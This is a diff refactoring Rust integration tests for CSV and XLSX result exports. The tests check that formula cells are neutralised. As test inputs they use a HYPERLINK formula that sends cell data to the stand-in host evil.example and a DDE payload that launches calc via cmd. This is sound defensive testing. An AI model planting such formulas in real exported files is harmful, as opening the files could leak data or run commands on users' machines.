@@ -5,34 +5,22 @@
 
 mod common;
 
-use std::io::{Cursor, Read};
+use std::io::Cursor;
 
 use calamine::{Data, Reader, Xlsx};
-use common::{App, data_message, ingest};
-use domain::store::users::Role;
+use common::{Api, App, classic_parameters, data_message, ingest, read_csv_rows, zip_entry};
 use serde_json::json;
 
 const LINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
 
-async fn download(app: &App, token: &str, path: &str) -> Vec<u8> {
-    common::Api::new(app, token).download(path, "").await.body
-}
-
-fn records(body: &[u8]) -> Vec<Vec<String>> {
-    csv::ReaderBuilder::new()
-        .has_headers(false)
-        .flexible(true)
-        .from_reader(body)
-        .records()
-        .map(|r| r.expect("row").iter().map(String::from).collect())
-        .collect()
+/// `GET path`, answered 200: its bytes.
+async fn download(viola: &Api, path: &str) -> Vec<u8> {
+    viola.download(path, "").await.body
 }
 
 #[tokio::test]
 async fn formula_cells_are_neutralised_in_both_csv_layouts_and_numbers_stay() {
-    let app = App::start().await;
-    app.stand("rig1", "ready").await;
-    let token = app.token("viola", Role::Viewer).await;
+    let (app, viola) = App::rig1_and_viewer().await;
     let params = json!({
         "@cmd": "@SUM(1+1)*cmd|' /C calc'!A0",
         "neg": "-1.5",
@@ -50,26 +38,22 @@ async fn formula_cells_are_neutralised_in_both_csv_layouts_and_numbers_stay() {
         .await
         .expect("a result");
 
-    let plain = download(&app, &token, &format!("/results/{id}.csv")).await;
-    let rows = records(&plain);
+    let plain = download(&viola, &format!("/results/{id}.csv")).await;
+    let rows = read_csv_rows(&plain);
     assert_eq!(rows[0], [format!("'{LINK}"), "labels".to_owned()]);
     let column = |c: usize| rows[1..].iter().map(|r| r[c].as_str()).collect::<Vec<_>>();
     assert_eq!(column(0), ["-1.5", "2", "-3e-300", "", "", ""]);
     assert_eq!(column(1), ["-1e-3", "'=1+1", "'@A1", "'+", "'\r=2", "ok"]);
 
-    let classic = download(&app, &token, &format!("/results/{id}.csv?layout=classic")).await;
-    let rows = records(&classic);
+    let classic = download(&viola, &format!("/results/{id}.csv?layout=classic")).await;
+    let rows = read_csv_rows(&classic);
     // The series as the old stack wrote them (cut to the shortest), neutralised alike.
     assert_eq!(
         rows[5..],
         [["-1.5", "-1e-3"], ["2", "'=1+1"], ["-3e-300", "'@A1"]]
     );
     assert_eq!(rows[1][1], format!("'{LINK}"), "sentBy");
-    let params: Vec<(&str, &str)> = rows[2]
-        .iter()
-        .map(String::as_str)
-        .zip(rows[3].iter().map(String::as_str))
-        .collect();
+    let params = classic_parameters(&rows);
     for want in [
         ("'@cmd", "'@SUM(1+1)*cmd|' /C calc'!A0"),
         ("neg", "-1.5"),
@@ -83,21 +67,9 @@ async fn formula_cells_are_neutralised_in_both_csv_layouts_and_numbers_stay() {
     assert_eq!(rows[4], [format!("'{LINK}"), "labels".to_owned()]);
 }
 
-fn zip_entry(body: &[u8], name: &str) -> String {
-    let mut zip = zip::ZipArchive::new(Cursor::new(body)).expect("a zip");
-    let mut text = String::new();
-    zip.by_name(name)
-        .expect(name)
-        .read_to_string(&mut text)
-        .expect("xml");
-    text
-}
-
 #[tokio::test]
 async fn xlsx_takes_any_series_name_and_writes_texts_as_strings_not_formulas() {
-    let app = App::start().await;
-    app.stand("rig1", "ready").await;
-    let token = app.token("viola", Role::Viewer).await;
+    let (app, viola) = App::rig1_and_viewer().await;
     let payload = data_message(
         "=1+1",
         json!({"p": "=2+2"}),
@@ -107,7 +79,7 @@ async fn xlsx_takes_any_series_name_and_writes_texts_as_strings_not_formulas() {
         .await
         .expect("a result");
 
-    let body = download(&app, &token, &format!("/results/{id}.xlsx")).await;
+    let body = download(&viola, &format!("/results/{id}.xlsx")).await;
     // Each chart series is named by a reference to its header cell on the Data sheet.
     let chart = zip_entry(&body, "xl/charts/chart1.xml");
     for want in ["Data!$A$1", "Data!$B$1", "Data!$C$1", "Data!$A$2:$A$3"] {
@@ -140,9 +112,7 @@ async fn xlsx_takes_any_series_name_and_writes_texts_as_strings_not_formulas() {
 
 #[tokio::test]
 async fn xlsx_with_more_series_than_excel_has_columns_goes_on_in_a_second_data_sheet() {
-    let app = App::start().await;
-    app.stand("rig1", "ready").await;
-    let token = app.token("viola", Role::Viewer).await;
+    let (app, viola) = App::rig1_and_viewer().await;
     let payload = data_message("rig1", json!({}), r#"{"s0": [0.5]}"#);
     let id = ingest(&app.db.pool, "rig1", &payload)
         .await
@@ -160,7 +130,7 @@ async fn xlsx_with_more_series_than_excel_has_columns_goes_on_in_a_second_data_s
     .await
     .expect("more series");
 
-    let body = download(&app, &token, &format!("/results/{id}.xlsx")).await;
+    let body = download(&viola, &format!("/results/{id}.xlsx")).await;
     let mut wb: Xlsx<_> = Xlsx::new(Cursor::new(body)).expect("an xlsx file");
     assert_eq!(
         wb.sheet_names(),
@@ -187,6 +157,6 @@ async fn xlsx_with_more_series_than_excel_has_columns_goes_on_in_a_second_data_s
     );
     assert!(info.contains(&("Data sheets".into(), "Data, Data 2".into())));
 
-    let csv = download(&app, &token, &format!("/results/{id}.csv")).await;
-    assert_eq!(records(&csv)[0].len(), 16_385);
+    let csv = download(&viola, &format!("/results/{id}.csv")).await;
+    assert_eq!(read_csv_rows(&csv)[0].len(), 16_385);
 }
